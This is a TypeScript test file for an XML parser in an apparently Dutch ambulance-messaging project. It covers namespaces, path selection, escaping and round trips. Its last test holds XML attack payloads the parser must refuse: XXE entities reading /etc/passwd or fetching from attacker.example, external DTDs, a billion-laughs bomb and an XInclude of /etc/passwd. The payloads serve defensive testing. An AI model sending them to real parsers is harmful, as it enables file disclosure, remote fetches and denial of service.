/** XML parser: namespaces, positions, helpers, round trips, and the payloads it must refuse. */
import t from 'tap';
import { attr, child, children, parseXml, select, serializeXml, text, xmlElement } from '../../src/adapters/xml/index.ts';
import { expectError, fixture } from './helpers.ts';

const RIT = fixture('ambulance-rit.xml');

t.test('ambulance ride with namespaces', async (t) => {
  const root = parseXml(RIT);
  t.equal(root.name, 'az:ambulanceRit');
  t.equal(root.prefix, 'az');
  t.equal(root.localName, 'ambulanceRit');
  t.equal(root.namespace, 'urn:spoedbrug:test:ambulance');
  t.same([root.line, root.column, root.path], [3, 1, '/ambulanceRit']);
  t.equal(attr(root, 'versie'), '1.0');
  t.equal(attr(root, 'xmlns'), 'urn:spoedbrug:test:default', 'declarations are kept as attributes by qualified name');
  t.equal(attr(root, 'az'), undefined, 'but are not found by local name');

  const patient = child(root, 'patient')!;
  t.equal(patient.namespace, 'urn:spoedbrug:test:default', 'default namespace inherited');
  t.same([patient.line, patient.column, patient.path], [5, 3, '/ambulanceRit/patient']);
  t.equal(select(root, 'patient/identificatie/bsn'), '999999990');
  t.equal(select(root, 'ritnummer'), 'RIT-2026-0042');
  t.equal(select(root, 'az:ritnummer'), 'RIT-2026-0042', 'a prefixed step matches the qualified name');
  t.equal(select(root, 'patient/naam/@voornaam'), 'Zoë');
  t.equal(select(root, 'patient/naam/@achternaam'), 'de Vriës');
  t.equal(select(root, '@versie'), '1.0');
  t.equal(select(root, 'patient/onbekend/bsn'), undefined);
  t.equal(select(root, 'patient/naam/@onbekend'), undefined);

  const urgentie = child(root, 'urgentie')!;
  const type = urgentie.attributes.find((a) => a.localName === 'type')!;
  t.same([type.prefix, type.namespace, type.value], ['xsi', 'http://www.w3.org/2001/XMLSchema-instance', 'CD']);
  t.equal(urgentie.attributes.find((a) => a.name === 'code')?.namespace, '', 'unprefixed attributes have no namespace');

  t.equal(text(child(root, 'opmerking')), 'Pijn < 5 & stabiel & aanspreekbaar ✔', 'CDATA, entity and character reference');
  const metingen = children(root, 'meting');
  t.same(
    metingen.map((m) => [m.path, attr(m, 'type'), m.text]),
    [
      ['/ambulanceRit/meting', 'hartfrequentie', '112'],
      ['/ambulanceRit/meting[2]', 'temperatuur', '38.1'],
    ],
  );
  t.equal(select(root, 'meting[2]/@eenheid'), 'Cel');
  t.equal(root.children.length, 6, 'comments and processing instructions are not nodes');
});

t.test('round trip: serialize(parse(x)) === x', async (t) => {
  const canonical = [
    '<a xmlns="urn:x" xmlns:p="urn:p" p:b="1 &quot;q&quot; &amp; &lt;&#9;&#10;&#13;" c="\'"><p:c>t &amp; &lt;x&gt; "q" \'a\'</p:c><d/>tail&#13;<e>ë😀</e></a>',
    '<root/>',
    '<r>\n  <indented>yes</indented>\n</r>',
  ];
  for (const x of canonical) t.equal(serializeXml(parseXml(x)), x);
  t.equal(serializeXml(parseXml('<r>\r\n<s>x\ry</s></r>')), '<r>\n<s>x\ny</s></r>', 'line ends are normalised to LF');
  t.equal(serializeXml(parseXml("<r a='1'><s></s><![CDATA[<&>]]></r>")), '<r a="1"><s/>&lt;&amp;&gt;</r>', 'non-canonical input');
  t.equal(serializeXml(xmlElement('r'), { declaration: true }), '<?xml version="1.0" encoding="UTF-8"?><r/>');
});

t.test('outbound elements', async (t) => {
  const el = xmlElement('bericht', { id: 'a"b<c>&\n' }, [xmlElement('patient', {}, ['Zoë & Ïnge <3']), 'x]]>y']);
  const back = parseXml(serializeXml(el));
  t.equal(attr(back, 'id'), 'a"b<c>&\n');
  t.equal(select(back, 'patient'), 'Zoë & Ïnge <3');
  t.equal(back.text, 'x]]>y');
  expectError(t, () => serializeXml(xmlElement('r', {}, ['\u0001'])), 'SPB_ERR_XML_UNREPRESENTABLE', 422, '/r');
  expectError(t, () => serializeXml(xmlElement('r', { a: '\uFFFF' })), 'SPB_ERR_XML_UNREPRESENTABLE', 422, '/r/@a');
});

t.test('XXE, billion laughs and other DTD payloads are refused', async (t) => {
  const payloads: Record<string, string> = {
    'external entity (XXE)': '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    'external entity over http': '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><r>&xxe;</r>',
    'billion laughs': `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`,
    'parameter entity': '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
    'external DTD': '<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>',
    'public DTD': '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    'lower-case doctype': '<!doctype r><r/>',
    'entity declaration in content': '<r><!ENTITY x "y"></r>',
    'doctype after a comment': '<!-- hi -->\n\n  <!DOCTYPE r><r/>',
  };
  for (const [name, xml] of Object.entries(payloads)) expectError(t, () => parseXml(xml), 'SPB_ERR_XML_FORBIDDEN', 422, /^line \d+ column \d+$/, name);
  expectError(t, () => parseXml('<!-- hi -->\n\n  <!DOCTYPE r><r/>'), 'SPB_ERR_XML_FORBIDDEN', 422, 'line 3 column 3', 'position of the doctype');
  expectError(t, () => parseXml('<r>&xxe;</r>'), 'SPB_ERR_XML_MALFORMED', 400, 'line 1 column 4', 'undeclared entity');
  expectError(t, () => parseXml('<r a="&lol9;"/>'), 'SPB_ERR_XML_MALFORMED', 400, 'line 1 column 7', 'undeclared entity in an attribute');
  const xinclude = parseXml('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></r>');
  t.equal(xinclude.children[0]?.text, '', 'XInclude is an ordinary element; nothing is fetched');
});
